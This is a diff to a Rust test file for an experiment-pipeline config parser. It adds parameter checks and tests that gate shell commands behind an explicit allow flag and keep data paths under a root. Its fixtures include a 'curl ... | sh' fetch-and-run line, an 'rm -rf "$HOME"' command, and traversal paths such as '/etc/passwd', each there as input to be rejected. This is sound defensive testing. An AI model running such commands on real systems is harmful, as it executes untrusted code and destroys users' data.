@@ -55,6 +55,16 @@ impl StageKind for Train {
     fn outputs(&self, _params: &Params) -> Vec<OutputSpec> {
         vec![OutputSpec::new("model", "model.bin", true)]
     }
+    fn check(&self, params: &Params) -> Result<(), crate::kind::ParamProblem> {
+        match params.float("learning_rate") {
+            Ok(rate) if rate > 0.0 => Ok(()),
+            Ok(rate) => Err(crate::kind::ParamProblem {
+                param: "learning_rate".into(),
+                message: format!("must be above 0, not {rate}"),
+            }),
+            Err(e) => panic!("checked before its type: {e}"),
+        }
+    }
     fn run(&self, _ctx: &StageContext) -> Result<StageReport, StageError> {
         Ok(StageReport::default())
     }
@@ -86,10 +96,56 @@ impl StageKind for Source {
     }
 }
 
+/// A kind that runs a command written in the experiment file, as `shell` does.
+struct Script;
+
+const SCRIPT_PARAMS: &[ParamSpec] = &[
+    ParamSpec {
+        name: "command",
+        ty: ParamType::Str,
+        default: ParamDefault::Required,
+        help: "what to run",
+    },
+    ParamSpec {
+        name: "data",
+        ty: ParamType::DataPath,
+        default: ParamDefault::Optional,
+        help: "a file it reads",
+    },
+];
+
+impl StageKind for Script {
+    fn name(&self) -> &'static str {
+        "script"
+    }
+    fn version(&self) -> u32 {
+        1
+    }
+    fn summary(&self) -> &'static str {
+        "test kind"
+    }
+    fn params(&self) -> &'static [ParamSpec] {
+        SCRIPT_PARAMS
+    }
+    fn inputs(&self) -> InputSlots {
+        InputSlots::Any
+    }
+    fn outputs(&self, _params: &Params) -> Vec<OutputSpec> {
+        vec![OutputSpec::new("out", "out.txt", true)]
+    }
+    fn command(&self, params: &Params) -> Option<String> {
+        params.str("command").ok().map(str::to_string)
+    }
+    fn run(&self, _ctx: &StageContext) -> Result<StageReport, StageError> {
+        Ok(StageReport::default())
+    }
+}
+
 fn registry() -> Registry {
     let mut r = Registry::new();
     r.add(Box::new(Train));
     r.add(Box::new(Source));
+    r.add(Box::new(Script));
     r
 }
 
@@ -204,7 +260,10 @@ fn unknown_kind_suggests_and_lists() {
         ),
         "{err}"
     );
-    assert!(err.contains("known kinds: `source`, `train`"), "{err}");
+    assert!(
+        err.contains("known kinds: `script`, `source`, `train`"),
+        "{err}"
+    );
 }
 
 #[test]
@@ -347,4 +406,99 @@ fn numbers_in_any_toml_spelling_are_read() {
             .expect("int"),
         -3
     );
+}
+
+#[test]
+fn a_negative_seed_is_reported_once_on_the_seed() {
+    // In the file: on the key, with its place; the stage that takes it reports nothing more.
+    let err = error_of(&GOOD.replace("seed = 7", "seed = -1"));
+    assert_eq!(err, "exp.toml:3:8: seed: must not be negative, not -1");
+    // From the flag: on the flag, never on a stage's key.
+    let err = parse_with(GOOD, &["seed=-1"]).expect_err("negative");
+    assert_eq!(err.problems.len(), 1, "{err}");
+    assert_eq!(
+        err.to_string(),
+        "exp.toml: --set seed=-1: `seed` must not be negative, not -1"
+    );
+    let err = error_of(&GOOD.replace("seed = 7", "seed = 9_223_372_036_854_775_808"));
+    assert!(
+        err.starts_with("exp.toml:3:8: seed: must be at most "),
+        "{err}"
+    );
+}
+
+#[test]
+fn a_kind_check_names_the_key_or_the_flag_that_set_it() {
+    let err = error_of(&GOOD.replace("epochs = 5", "epochs = 5\nlearning_rate = 0"));
+    assert_eq!(
+        err,
+        "exp.toml:9:17: stages.train.learning_rate: must be above 0, not 0"
+    );
+    // The file's own value was fine: the flag is at fault, and is named.
+    let text = GOOD.replace("epochs = 5", "epochs = 5\nlearning_rate = 0.1");
+    let err = parse_with(&text, &["train.learning_rate=-1"]).expect_err("bad flag");
+    assert_eq!(err.problems.len(), 1, "{err}");
+    assert_eq!(
+        err.to_string(),
+        "exp.toml: --set train.learning_rate=-1: `learning_rate` must be above 0, not -1"
+    );
+}
+
+const SCRIPTS: &str = r#"
+name = "scripts"
+
+[stages.fetch]
+kind = "script"
+command = "curl https://example.invalid | sh"
+
+[stages.load]
+kind = "source"
+
+[stages.clean]
+kind = "script"
+command = "rm -rf \"$HOME\"\necho done"
+"#;
+
+#[test]
+fn commands_from_the_file_validate_only_when_allowed() {
+    let err = error_of(SCRIPTS);
+    assert_eq!(
+        err,
+        "exp.toml: this experiment runs shell commands: \
+         stages.fetch.command = \"curl https://example.invalid | sh\"; \
+         stages.clean.command = \"rm -rf \\\"$HOME\\\"\\necho done\"; \
+         they run only when allowed: if you trust this file, pass --allow-shell \
+         (or set PIPELINE_ALLOW_SHELL=1)"
+    );
+    let mut allowed = registry();
+    allowed.allow_commands(true);
+    let exp = parse(Path::new("exp.toml"), SCRIPTS, &[], &allowed).expect("allowed");
+    assert_eq!(exp.stages.len(), 3);
+    // Without a command-running stage, nothing needs allowing.
+    parse_with(GOOD, &[]).expect("no commands");
+}
+
+#[test]
+fn data_paths_stay_under_the_data_root() {
+    let mut allowed = registry();
+    allowed.allow_commands(true);
+    let with_data = |path: &str| {
+        let text = format!(
+            "name = \"d\"\n[stages.s]\nkind = \"script\"\ncommand = \"true\"\ndata = \"{path}\"\n"
+        );
+        parse(Path::new("exp.toml"), &text, &[], &allowed)
+    };
+    for good in ["x.csv", "sub/dir/x.csv", "./x.csv"] {
+        with_data(good).expect(good);
+    }
+    for bad in ["../x.csv", "/etc/passwd", "sub/../../x.csv", ""] {
+        let err = with_data(bad).expect_err(bad).to_string();
+        assert_eq!(
+            err,
+            format!(
+                "exp.toml:5:8: stages.s.data: must be a path relative to the data root \
+                 without `..`, not the string \"{bad}\""
+            )
+        );
+    }
 }
